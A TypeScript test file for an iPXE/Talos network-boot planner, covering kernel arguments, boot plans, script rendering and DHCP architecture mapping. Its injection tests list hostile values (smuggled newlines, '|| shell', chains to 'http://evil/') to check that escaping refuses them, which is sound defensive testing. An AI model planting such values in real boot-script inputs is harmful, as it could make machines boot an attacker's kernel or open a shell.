import { describe, expect, it } from 'vitest';
import { blankNode, type Node } from '../../src/domain/node.ts';
import { ipxeBinaryFor } from '../../src/ipxe/binaries.ts';
import { talosKernelArgs } from '../../src/ipxe/kernel-args.ts';
import { archFromIpxe, firmwareFromIpxe, holdReason, planBoot } from '../../src/ipxe/plan.ts';
import { renderEntryScript, renderNodeScript, ScriptValueError, text, token } from '../../src/ipxe/script.ts';

const BASE = 'http://192.0.2.10:8080';
const MAC = '52:54:00:12:34:56';

function node(over: Partial<Node> = {}): Node {
  return blankNode(MAC, { arch: 'amd64', firmware: 'uefi', firstSeen: '2026-01-01T00:00:00.000Z', updatedAt: '2026-01-01T00:00:00.000Z', ...over });
}

/** The words of the script's `kernel` line after the kernel URL. */
function kernelArgs(script: string): string[] {
  const line = script.split('\n').find((l) => l.startsWith('kernel '))!;
  return line.replace(/ \|\| goto failed$/, '').split(' ').slice(2);
}

/** Every line iPXE would execute must start with a command we wrote (or be a label/comment). */
const COMMANDS = new Set(['#!ipxe', 'echo', 'chain', 'sleep', 'exit', 'kernel', 'initrd', 'boot', 'imgfree', 'sanboot', ':failed', '#']);
function commands(script: string): string[] {
  return script.split('\n').filter((l) => l !== '').map((l) => l.split(' ')[0]!);
}

describe('Talos kernel arguments: as Talos\'s imager builds them for metal, per minor and architecture', () => {
  // Written from Talos's imager (buildCmdline: platform, platform console=, kernel.DefaultArgs) and
  // its quirk versions at each tag; the sources are in src/talos/schemas/v1.<minor>/accepted-fields.json `extras`.
  const v11 = ['init_on_alloc=1', 'slab_nomerge', 'pti=on', 'consoleblank=0', 'nvme_core.io_timeout=4294967295', 'printk.devkmsg=on', 'selinux=1'];
  const v12 = [...v11, 'module.sig_enforce=1'];
  const v13 = [...v12, 'proc_mem.force_override=never'];
  // 1.14: init_on_alloc=1 dropped (DropInitOnAllocInArgs), nvme_core.io_timeout only on AWS (NvmeCoreIoTimeoutAWSOnly).
  const v14 = ['slab_nomerge', 'pti=on', 'consoleblank=0', 'printk.devkmsg=on', 'selinux=1', 'module.sig_enforce=1', 'proc_mem.force_override=never'];
  const amd64 = ['talos.platform=metal', 'console=tty0'];
  const arm64 = ['talos.platform=metal', 'console=ttyAMA0', 'console=tty0'];
  it.each([
    ['v1.11.6', 'amd64', [...amd64, ...v11]],
    ['v1.11.6', 'arm64', [...arm64, ...v11]],
    ['v1.12.11', 'amd64', [...amd64, ...v12]],
    ['v1.12.11', 'arm64', [...arm64, ...v12]],
    ['v1.13.9', 'amd64', [...amd64, ...v13]],
    ['v1.13.0-beta.1', 'arm64', [...arm64, ...v13]],
    ['v1.14.0', 'amd64', [...amd64, ...v14]],
    ['v1.14.0-rc.1', 'arm64', [...arm64, ...v14]],
  ] as const)('%s %s', (version, arch, want) => {
    expect(talosKernelArgs(version, arch)).toEqual(want);
  });

  it.each(['v1.11.6', 'v1.12.11', 'v1.13.9', 'v1.14.0'])('%s keeps slab_nomerge and pti=on, without which Talos refuses to boot', (version) => {
    for (const arch of ['amd64', 'arm64'] as const) expect(talosKernelArgs(version, arch)).toEqual(expect.arrayContaining(['slab_nomerge', 'pti=on']));
  });
});

describe('what iPXE reports', () => {
  it('maps buildarch and platform', () => {
    expect([archFromIpxe('x86_64'), archFromIpxe('i386'), archFromIpxe('arm64'), archFromIpxe('arm32'), archFromIpxe(undefined)]).toEqual(['amd64', 'amd64', 'arm64', undefined, undefined]);
    expect([firmwareFromIpxe('pcbios'), firmwareFromIpxe('efi'), firmwareFromIpxe('x')]).toEqual(['bios', 'uefi', undefined]);
  });
});

describe('planBoot', () => {
  it('sends no installer for a Talos version Genesis cannot write a config for', () => {
    expect(planBoot(node({ role: 'worker', state: 'assigned', talosVersion: 'v1.10.7' }), 'v1.13.9')).toEqual({
      kind: 'unsupported',
      reason: 'Talos v1.10.7: Genesis writes configs for v1.11 to v1.14',
    });
    expect(planBoot(node({ role: 'worker', state: 'assigned' }), 'v1.15.0').kind).toBe('unsupported');
    expect(planBoot(node({ role: 'worker', state: 'assigned', talosVersion: 'v1.11.3' }), 'v1.15.0').kind).toBe('install');
  });

  it('waits, with the reason, while the machine config cannot be rendered; installs once it can', () => {
    const n = node({ role: 'worker', state: 'assigned' });
    const broken = () => 'cluster.endpoint is not set';
    expect(planBoot(n, 'v1.14.0', () => true, broken)).toEqual({ kind: 'wait', reason: 'config', talosVersion: 'v1.14.0', detail: 'cluster.endpoint is not set' });
    expect(holdReason(planBoot(n, 'v1.14.0', () => true, broken))).toBe('waiting: its machine config cannot be rendered: cluster.endpoint is not set');
    expect(planBoot(n, 'v1.14.0', () => true, () => undefined).kind).toBe('install');
    // Missing assets are said first: the config is only worth rendering once the installer can boot.
    expect(planBoot(n, 'v1.14.0', () => false, broken)).toMatchObject({ kind: 'wait', reason: 'assets-missing' });
    // Installed machines boot from disk whatever their config would be now.
    expect(planBoot(node({ role: 'worker', state: 'installed' }), 'v1.14.0', () => true, broken).kind).toBe('local');
    expect(holdReason(planBoot(node(), 'v1.14.0', () => true, broken))).toBeNull();
  });

  it('waits instead of installing while the kernel and initramfs of its version are missing', () => {
    const present = (v: string, a: string) => v === 'v1.13.9' && a === 'amd64';
    expect(planBoot(node({ role: 'worker', state: 'assigned', arch: 'arm64' }), 'v1.13.9', present)).toEqual({ kind: 'wait', reason: 'assets-missing', talosVersion: 'v1.13.9', arch: 'arm64' });
    expect(planBoot(node({ role: 'worker', state: 'assigned', arch: 'amd64' }), 'v1.13.9', present).kind).toBe('install');
    // Installed machines go to disk whatever is downloaded.
    expect(planBoot(node({ role: 'worker', state: 'installed', arch: 'arm64' }), 'v1.13.9', present).kind).toBe('local');
  });

  it('unassigned waits, whatever its state', () => {
    expect(planBoot(node(), 'v1.13.9')).toEqual({ kind: 'wait', reason: 'unassigned' });
    expect(planBoot(node({ state: 'installed' }), 'v1.13.9').kind).toBe('wait');
  });
  it.each(['assigned', 'installing', 'reinstall-requested'] as const)('%s installs, with the default or the node version', (state) => {
    expect(planBoot(node({ role: 'worker', state }), 'v1.13.9')).toEqual({ kind: 'install', talosVersion: 'v1.13.9', arch: 'amd64', role: 'worker' });
    expect(planBoot(node({ role: 'controlplane', state, talosVersion: 'v1.12.0', arch: 'arm64' }), 'v1.13.9')).toEqual({
      kind: 'install', talosVersion: 'v1.12.0', arch: 'arm64', role: 'controlplane',
    });
  });
  it.each(['exit', 'sanboot', 'http404'] as const)('installed boots locally via %s', (mode) => {
    expect(planBoot(node({ role: 'worker', state: 'installed', localBoot: mode }), 'v1.13.9')).toEqual({ kind: 'local', mode });
  });
  it('no known architecture: cannot install', () => expect(planBoot(node({ role: 'worker', state: 'assigned', arch: null }), 'v1.13.9').kind).toBe('unsupported'));
});

describe('entry script', () => {
  it('chains to the per-machine URL with every identity setting iPXE expands', () => {
    const s = renderEntryScript(BASE);
    expect(s.startsWith('#!ipxe\n')).toBe(true);
    const chain = s.split('\n').find((l) => l.startsWith('chain '))!;
    for (const v of ['${mac:hexhyp}', '${buildarch:uristring}', '${platform:uristring}', '${uuid:uristring}', '${serial:uristring}', '${manufacturer:uristring}', '${product:uristring}']) {
      expect(chain).toContain(v);
    }
    expect(chain).toContain(`${BASE}/ipxe/node?`);
    expect(chain.endsWith('|| goto failed')).toBe(true);
    expect(s).toMatch(/:failed\n.*\nsleep 5\nexit 1\n$/);
  });
  it('refuses a base URL that could carry commands', () => expect(() => renderEntryScript('http://x/ ||  shell')).toThrow(ScriptValueError));
});

describe('per-machine scripts', () => {
  const render = (n: Node, extra: { hostname?: string } = {}) => {
    const plan = planBoot(n, 'v1.13.9');
    return renderNodeScript({ plan, baseUrl: BASE, mac: n.mac, hostname: extra.hostname ?? n.hostname, configUrl: `${BASE}/talos/config/${n.mac}`, retrySeconds: 15 });
  };

  it('waiting: a message naming the machine, a pause, and the entry script again', () => {
    const s = render(node());
    expect(s).toContain(`machine ${MAC} is recorded but has no role yet`);
    expect(s).toContain(`echo To assign one: genesis nodes assign ${MAC} worker\n`);
    for (const line of s.split('\n')) expect(line.length).toBeLessThan(80);
    expect(s).toMatch(/sleep 15\nchain --replace --autofree http:\/\/192\.0\.2\.10:8080\/boot\.ipxe\n$/);
  });

  for (const arch of ['amd64', 'arm64'] as const) {
    for (const firmware of ['bios', 'uefi'] as const) {
      it(`install ${arch}/${firmware}: Talos kernel and initramfs for the arch, required args, config URL with the MAC written in`, () => {
        const s = render(node({ role: 'controlplane', state: 'assigned', arch, firmware }));
        expect(s).toContain(`kernel ${BASE}/assets/talos/v1.13.9/${arch}/vmlinuz `);
        expect(s).toContain(`initrd --name initramfs.xz ${BASE}/assets/talos/v1.13.9/${arch}/initramfs.xz || goto failed`);
        const args = kernelArgs(s);
        expect(args[0]).toBe('initrd=initramfs.xz');
        expect(args.slice(1, -1)).toEqual(talosKernelArgs('v1.13.9', arch));
        expect(args.at(-1)).toBe(`talos.config=${BASE}/talos/config/${MAC}`);
        expect(s).not.toContain('talos.config=${');
        expect(s).toContain('boot || goto failed');
        expect(commands(s).every((c) => COMMANDS.has(c))).toBe(true);
      });
    }
  }

  it('install uses the node’s own Talos version', () => {
    const s = render(node({ role: 'worker', state: 'reinstall-requested', talosVersion: 'v1.11.2' }));
    expect(s).toContain('/assets/talos/v1.11.2/amd64/vmlinuz');
    expect(kernelArgs(s)).not.toContain('module.sig_enforce=1');
  });

  it('installed: exit, or sanboot of the first disk', () => {
    expect(render(node({ role: 'worker', state: 'installed' }))).toMatch(/\nexit 1\n$/);
    expect(render(node({ role: 'worker', state: 'installed', localBoot: 'sanboot' }))).toContain('sanboot --no-describe --drive 0x80 || exit 1');
  });

  it('an install script without a config URL is a programming error', () => {
    expect(() => renderNodeScript({ plan: { kind: 'install', talosVersion: 'v1.13.9', arch: 'amd64', role: 'worker' }, baseUrl: BASE, mac: MAC })).toThrow(ScriptValueError);
  });
});

describe('injection', () => {
  const hostile = [
    'x\nkernel http://evil/vmlinuz',
    'x || shell',
    'x && chain http://evil/',
    'x ; shell',
    '${net0/mac}',
    'x\r\nshell',
    '"quoted" \\ back',
    '--help',
    'x #comment',
  ];
  it.each(hostile)('text() leaves %j one harmless echo line', (value) => {
    const t = text(value);
    expect(t).not.toMatch(/[\n\r$"\\;|&#]/);
    expect(t.split(' ').some((w) => w.startsWith('-'))).toBe(false);
  });
  it.each(hostile)('token() refuses %j', (value) => expect(() => token(value)).toThrow(ScriptValueError));
  it.each(hostile)('a hostile hostname %j adds no command to a script', (hostname) => {
    for (const state of ['discovered', 'assigned', 'installed'] as const) {
      const n = node({ role: state === 'discovered' ? 'unassigned' : 'worker', state });
      const s = renderNodeScript({ plan: planBoot(n, 'v1.13.9'), baseUrl: BASE, mac: MAC, hostname, configUrl: `${BASE}/talos/config/${MAC}` });
      const clean = renderNodeScript({ plan: planBoot(n, 'v1.13.9'), baseUrl: BASE, mac: MAC, hostname: 'h', configUrl: `${BASE}/talos/config/${MAC}` });
      expect(commands(s)).toEqual(commands(clean));
      expect(s.split('\n').length).toBe(clean.split('\n').length);
      expect(s).not.toContain('${net0');
    }
  });
  it('a hostile MAC or config URL never reaches a script', () => {
    expect(() => renderNodeScript({ plan: { kind: 'wait', reason: 'unassigned' }, baseUrl: BASE, mac: 'a b' })).toThrow(ScriptValueError);
    expect(() =>
      renderNodeScript({ plan: { kind: 'install', talosVersion: 'v1.13.9', arch: 'amd64', role: 'worker' }, baseUrl: BASE, mac: MAC, configUrl: 'http://x/ y' }),
    ).toThrow(ScriptValueError);
  });
});

describe('iPXE binary by client architecture (DHCP option 93)', () => {
  it.each([
    [0, 'tftp', ['undionly.kpxe'], 'bios', 'amd64'],
    [7, 'tftp', ['snponly.efi', 'ipxe.efi'], 'uefi', 'amd64'],
    [9, 'tftp', ['snponly.efi', 'ipxe.efi'], 'uefi', 'amd64'],
    [11, 'tftp', ['arm64-efi/snponly.efi'], 'uefi', 'arm64'],
    [16, 'http', ['snponly.efi', 'ipxe.efi'], 'uefi', 'amd64'],
    [19, 'http', ['arm64-efi/snponly.efi'], 'uefi', 'arm64'],
  ])('arch %i → %s %j', (code, kind, candidates, firmware, arch) => {
    expect(ipxeBinaryFor(code)).toEqual({ kind, candidates, firmware, arch });
  });
  it.each([6, 2, 10, 25, 65535])('arch %i is refused with a reason', (code) => expect(ipxeBinaryFor(code).kind).toBe('unsupported'));
});
